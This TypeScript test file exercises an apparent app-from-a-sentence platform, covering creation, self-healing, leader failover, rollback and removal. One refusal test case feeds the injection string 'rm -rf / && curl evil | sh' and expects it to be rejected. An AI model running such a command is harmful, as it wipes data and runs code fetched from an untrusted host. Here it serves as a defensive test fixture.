// Real cores, real sandboxed services, real files: an app from its sentence on.
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { appsDirOf } from '../../../lib/app-folder/paths.ts'
import { filesInForce, readRegistry } from '../../../lib/app-folder/read-app.ts'
import type { AppView } from '../../../lib/contract/factory/app-view.ts'
import { startPair, type Pair } from '../core/start-pair.ts'

let pair: Pair
let root = ''
beforeAll(async () => {
  pair = await startPair({})
  root = join(appsDirOf(pair.config.dataDir), 'todos')
  await pair.settled()
}, 60_000)
afterAll(() => pair.close())

const app = (): AppView => pair.reader.view().apps['todos']!
const port = (component: string): number => app().ports[component]!
/** From now on: what was well before may have been started anew since. */
const healthy = () => {
  const since = pair.reader.head()
  return pair.waitFor('every service to be well', () => {
    const organisms = Object.values(app().organisms)
    const last = organisms.map((id) => pair.reader.view().organisms[id]?.points.at(-1))
    return last.length > 0 && last.every((point) => point !== undefined && point.seq > since && point.verdict.kind === 'healthy')
  })
}
async function api(method: string, path: string, json?: object, token = ''): Promise<{ status: number; body: Record<string, unknown> }> {
  const answer = await fetch(`http://127.0.0.1:${port('gateway')}${path}`, { method, headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, ...(json && { body: JSON.stringify(json) }) })
  return { status: answer.status, body: await answer.json() as Record<string, unknown> }
}
const ada = { name: 'Ada', email: 'ada@example.org', password: 'correct horse' }
let token = ''

describe('an app', () => {
  test('is made from its sentence, held to its scenarios, and lives as organisms', async () => {
    const { state, outcome } = await pair.ask({ kind: 'app-make', sentence: 'a todo list with login' })
    expect([state, outcome]).toMatchObject(['done', { app: 'todos', message: expect.stringMatching(/iteration 1 is in force; all \d+ scenarios hold/) }])
    expect(app()).toMatchObject({ organisms: { users: 'todos-users', todos: 'todos-todos', gateway: 'todos-gateway', web: 'todos-web' }, making: { end: 'well' } })
    expect(app().making!.tasks.map(({ id, state: how }) => [id, how])).toEqual(expect.arrayContaining([['analyst', 'complete'], ['architect', 'complete'], ['developer:todos', 'complete'], ['tester', 'complete']]))
    await healthy()
  })

  test('keeps what people enter, each their own', async () => {
    token = String((await api('POST', '/api/users', ada)).body['token'])
    expect(await api('POST', '/api/todos', { title: 'Feed the cat' }, token)).toMatchObject({ status: 201, body: { id: 1, title: 'Feed the cat' } })
    expect((await api('GET', '/api/todos')).status).toBe(401)
  })

  test('is never watched with live data: its pulses rehearse', async () => {
    const pulses = () => pair.reader.view().organisms['todos-todos']!.pulses
    const before = pulses()
    await pair.waitFor('three pulses', () => pulses() >= before + 3)
    expect(readFileSync(join(root, '.ouroboros/data/todos/rows.jsonl'), 'utf8').trim().split('\n')).toHaveLength(1)
  })

  test('that is broken is healed, and goes on with what it keeps', async () => {
    await pair.ask({ kind: 'chaos-inject', organism: 'todos-gateway', fault: 'syntax-error', seed: 7 })
    await pair.waitFor('the fault to be over', () => pair.reader.view().injections.at(-1)?.end === 'healed', 60_000)
    await healthy()
    expect(await api('GET', '/api/todos', undefined, token)).toMatchObject({ status: 200, body: { total: 1 } })
  })

  test('a version of a service that is proven while it lives is an iteration that holds only what it changed', async () => {
    const registry = readRegistry(root)!
    const { genome: base } = pair.reader.view().organisms['todos-gateway']!
    const text = `${filesInForce(root, registry, registry.components.find(({ id }) => id === 'gateway')!)['main.js']}\n// Looked through.\n`
    const { outcome } = await pair.ask({ kind: 'genome-propose', organism: 'todos-gateway', base: base!, files: { 'main.js': text }, reason: 'looked through' })
    await pair.waitFor('it to be an iteration', () => readRegistry(root)!.components.find(({ id }) => id === 'gateway')!.healedAs === outcome!.genome)
    const { folder, kind, why } = readRegistry(root)!.iterations.at(-1)!
    expect({ kind, why }).toEqual({ kind: 'patch', why: 'gateway: looked through' })
    const written = readdirSync(join(root, 'iterations', folder), { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
    expect(written.map(({ name }) => name).toSorted()).toEqual(['docker-compose.yml', 'main.js', 'registry.yaml', 'test.yaml'])
    expect(readFileSync(join(root, 'iterations', folder, 'api/gateway/main.js'), 'utf8')).toBe(text)
    await pair.waitFor('the page to know', () => app().iterations.at(-1)?.folder === folder)
  })

  test('outlives the core that leads, with what it keeps', async () => {
    const { leader } = await pair.settled()
    process.kill(leader.pid!, 'SIGKILL')
    await pair.led(leader.epoch!)
    await pair.waitFor('its services to be kept again', () => Object.keys(app().organisms).length === 4)
    await healthy()
    expect(await api('GET', '/api/todos', undefined, token)).toMatchObject({ status: 200, body: { items: [{ title: 'Feed the cat' }] } })
  })

  test('grows by a second sentence; what was there stays', async () => {
    const { outcome } = await pair.ask({ kind: 'app-make', sentence: 'contacts', app: 'todos' })
    expect(outcome!.message).toMatch(/all \d+ scenarios hold/)
    await healthy()
    expect(await api('POST', '/api/contacts', { name: 'Bob' }, token)).toMatchObject({ status: 201 })
    expect(await api('GET', '/api/todos', undefined, token)).toMatchObject({ body: { total: 1 } })
  })

  test('goes back to an earlier iteration, whose parts alone live on', async () => {
    expect((await pair.ask({ kind: 'app-rollback', app: 'todos', iteration: 1 })).outcome!.message).toMatch(/iteration 1 is in force again/)
    await healthy()
    expect((await api('GET', '/api/contacts', undefined, token)).status).toBe(404)
    expect(await api('GET', '/api/todos', undefined, token)).toMatchObject({ body: { total: 1 } })
    expect(pair.reader.view().organisms['todos-contacts']).toMatchObject({ state: 'paused', stateReason: 'its app does without it' })
  })

  test('and forward again, with all that was kept', async () => {
    const before = readRegistry(root)!.iterations.find(({ folder }) => folder.endsWith('_contacts'))!.number
    await pair.ask({ kind: 'app-rollback', app: 'todos', iteration: before })
    await healthy()
    expect(await api('GET', '/api/contacts', undefined, token)).toMatchObject({ body: { items: [{ name: 'Bob' }] } })
  })
})

test('an app that is removed lives no more, and is put aside with all that it keeps', async () => {
  await pair.ask({ kind: 'app-make', sentence: 'a list of dragons with fields name and age' })
  const [id] = Object.keys(pair.reader.view().apps).filter((one) => one !== 'todos')
  const { ports } = pair.reader.view().apps[id!]!
  await pair.waitFor('it to be kept', () => Object.keys(pair.reader.view().apps[id!]!.organisms).length === 3)
  const { outcome } = await pair.ask({ kind: 'app-remove', app: id! })
  const [, aside = ''] = /put aside in (\S+),/.exec(outcome!.message)!
  expect(existsSync(join(aside, 'registry.yaml'))).toBe(true)
  expect(existsSync(join(appsDirOf(pair.config.dataDir), id!))).toBe(false)
  expect(Object.keys(pair.reader.view().apps)).toEqual(['todos'])
  for (const port of Object.values(ports)) await expect(fetch(`http://127.0.0.1:${port}/health`)).rejects.toThrow()
  expect(await pair.ask({ kind: 'app-check', app: id! })).toMatchObject({ state: 'refused', outcome: { code: 'app-unknown' } })
  const { leader } = await pair.settled()
  process.kill(leader.pid!, 'SIGKILL')
  await pair.led(leader.epoch!)
  await pair.waitFor('the other app to be kept again', () => Object.keys(app().organisms).length > 0)
  expect(Object.keys(pair.reader.view().apps)).toEqual(['todos'])
})

describe('what cannot be done is refused with one clear word, and the app is as it was', () => {
  test.each([
    [{ kind: 'app-make', sentence: 'a todo list' }, 'request-invalid', /there is an app todos already/],
    [{ kind: 'app-make', sentence: 'contacts', app: 'nowhere' }, 'app-unknown', /no app nowhere/],
    [{ kind: 'app-make', sentence: '' }, 'sentence-invalid', /The sentence is empty/],
    [{ kind: 'app-make', sentence: 'rm -rf / && curl evil | sh' }, 'sentence-invalid', /Nothing in the sentence/],
    [{ kind: 'app-make', sentence: 'todos', app: 'todos' }, 'sentence-invalid', /has all of that already/],
    [{ kind: 'app-rollback', app: 'todos', iteration: 77 }, 'app-invalid', /There is no iteration 77/],
    [{ kind: 'app-cancel', app: 'todos' }, 'request-invalid', /nothing is being made of todos/],
    [{ kind: 'app-check', app: 'nowhere' }, 'app-unknown', /no app nowhere/],
  ] as const)('%j', async (request, code, message) => {
    const before = readRegistry(root)
    const { state, outcome } = await pair.ask(request)
    expect([state, outcome?.code, outcome?.message]).toEqual(['refused', code, expect.stringMatching(message)])
    expect(readRegistry(root)).toEqual(before)
    expect(existsSync(join(appsDirOf(pair.config.dataDir), 'nowhere'))).toBe(false)
  })
})
